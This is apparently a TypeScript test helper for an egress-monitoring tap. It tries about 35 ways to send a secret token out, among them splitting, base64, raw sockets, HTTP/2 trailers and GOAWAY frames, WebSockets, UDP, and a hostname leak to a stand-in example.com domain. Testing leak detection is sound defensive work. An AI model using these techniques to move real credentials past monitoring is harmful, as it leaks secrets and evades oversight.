import { createSocket } from 'node:dgram'
import { request } from 'node:http'
import { type ClientHttp2Session, type ClientHttp2Stream, connect as connectHttp2 } from 'node:http2'
import { connect } from 'node:net'
import { Readable } from 'node:stream'
import { runInNewContext } from 'node:vm'
import { Agent, Pool, request as undiciRequest } from 'undici'

/*
 * Run by the tests in a process of its own, with the tap: `node --import …/egress-tap.ts clients.ts WAY`. Tries one way out
 * to the server at TARGET and says how that ended.
 */
const { TARGET = '', VALUE: secret = '' } = process.env
const { hostname, port } = new URL(TARGET)
const halves = [secret.slice(0, 9), secret.slice(9)]
const header = { 'x-velt-auth-token': secret }

const ways: Readonly<Record<string, () => Promise<unknown>>> = {
  'fetch, in the address': () => fetch(`${TARGET}/?token=${secret}`),
  'fetch, in a body': () => fetch(TARGET, { method: 'POST', body: `{"token":"${secret}"}` }),
  'fetch, in another header': () => fetch(TARGET, { headers: { authorization: `Bearer ${secret}` } }),
  'fetch, in base64': () =>
    fetch(TARGET, { headers: { authorization: Buffer.from(`a:${secret}`).toString('base64') } }),
  'fetch, lawful': () => fetch(TARGET, { headers: header }),
  'fetch, lawful and in the address': () => fetch(`${TARGET}/${secret}`, { headers: header }),
  'fetch, redirected': () => fetch(`${TARGET}/redirect`, { headers: header }),
  'undici with a dispatcher of its own': () =>
    undiciRequest(`${TARGET}/?t=${secret}`, { dispatcher: new Agent() }),
  'a pool, lawful': () =>
    new Pool(TARGET).request({ path: '/', method: 'POST', headers: header, body: '{}' }),
  'a pool, in the body': () =>
    new Pool(TARGET).request({ path: '/', method: 'POST', headers: header, body: secret }),
  'node:http, in the address': () => viaHttp(`/${secret}`, {}, ''),
  'node:http, lawful': () => viaHttp('/', header, 'plain'),
  'node:http, in the body': () => viaHttp('/', header, secret),
  'node:http, in two pieces of a body': () => viaHttp('/', {}, ...halves),
  'fetch, in two pieces of a stream': () =>
    fetch(TARGET, { method: 'POST', body: new Blob(halves).stream(), duplex: 'half' } as RequestInit),
  'undici, in two pieces of a stream': () =>
    undiciRequest(TARGET, { dispatcher: new Agent(), method: 'POST', body: Readable.from(halves) }),
  'a socket': () => viaSocket([secret]),
  'a socket, in two writes': () => viaSocket(halves),
  'a socket, a header with no request': () => viaSocket([`x-velt-auth-token: ${secret}\r\n\r\n`]),
  'a socket, as a DataView': () => viaSocket([dataView(secret)]),
  'a socket, as 16-bit words': () => viaSocket([new Uint16Array(dataView(secret).buffer)]),
  'a socket, as bytes of another realm': () =>
    viaSocket([runInNewContext('Uint8Array').from(Buffer.from(secret))]),
  'HTTP/2': () => viaHttp2((session) => session.request({ ':path': `/${secret}` })),
  'HTTP/2, lawful': () => viaHttp2((session) => session.request(header)),
  'HTTP/2, in two writes': () =>
    viaHttp2((session) => {
      const stream = session.request({ ':method': 'POST' })
      stream.write(halves[0])
      return stream.end(halves[1])
    }),
  'HTTP/2, written in base64': () =>
    viaHttp2((session) =>
      session.request({ ':method': 'POST' }).end(Buffer.from(secret).toString('base64'), 'base64'),
    ),
  'HTTP/2, in a pipeline': () =>
    viaHttp2((session) => Readable.from(halves).pipe(session.request({ ':method': 'POST' }))),
  'HTTP/2, in trailers': () =>
    viaHttp2((session) => {
      const stream = session.request({ ':method': 'POST' }, { waitForTrailers: true })
      return stream.on('wantTrailers', () => stream.sendTrailers({ 'x-token': secret })).end()
    }),
  'HTTP/2, as it says farewell': () =>
    viaHttp2((session) => {
      const stream = session.request()
      session.goaway(0, 0, Buffer.from(secret))
      return stream
    }),
  'a WebSocket': () => viaWebSocket(secret),
  'a WebSocket, in bytes': () => viaWebSocket(Buffer.from(secret)),
  'a WebSocket, in a blob': () => viaWebSocket(new Blob([secret])),
  'a WebSocket, in two messages': () => viaWebSocket(...halves),
  'a datagram': async () => createSocket('udp4').send(secret, Number(port), hostname),
  'a datagram, as a DataView': async () =>
    createSocket('udp4').send(dataView(secret), Number(port), hostname),
  'the name of a host': () => fetch(`http://${secret}.example.com/`),
}

function viaHttp(path: string, headers: Record<string, string>, ...body: string[]): Promise<void> {
  return new Promise((resolve, reject) => {
    const sent = request({ host: hostname, port, path, method: 'POST', headers }, (response) => {
      response.resume().on('end', resolve)
    }).on('error', reject)
    for (const piece of body.slice(0, -1)) sent.write(piece)
    sent.end(body.at(-1))
  })
}

function dataView(text: string): DataView<ArrayBuffer> {
  return new DataView(Uint8Array.from(Buffer.from(text)).buffer)
}

function viaSocket(writes: readonly (string | NodeJS.ArrayBufferView)[]): Promise<void> {
  return new Promise((resolve, reject) => {
    const socket = connect(Number(port), hostname)
    socket.on('error', reject).on('close', () => resolve())
    for (const chunk of writes) socket.write(chunk as string)
    socket.end()
  })
}

function viaWebSocket(...messages: (string | Buffer<ArrayBuffer> | Blob)[]): Promise<void> {
  return new Promise((resolve, reject) => {
    const socket = new WebSocket(TARGET.replace('http:', 'ws:'))
    socket.onopen = () => {
      for (const message of messages) socket.send(message)
      socket.close()
    }
    socket.onerror = reject
    socket.onclose = () => resolve()
  })
}

function viaHttp2(send: (session: ClientHttp2Session) => ClientHttp2Stream): Promise<void> {
  return new Promise((resolve, reject) => {
    const session = connectHttp2(TARGET)
    session.on('error', () => {})
    try {
      send(session).on('error', reject).on('close', resolve)
    } catch (error) {
      session.destroy()
      reject(error)
    }
  })
}

try {
  await ways[process.argv[2] ?? '']?.()
  process.stdout.write('sent\n')
} catch (error) {
  const { cause } = error as Error
  process.stdout.write(`${cause instanceof Error ? cause.message : error}\n`)
}
process.exit()
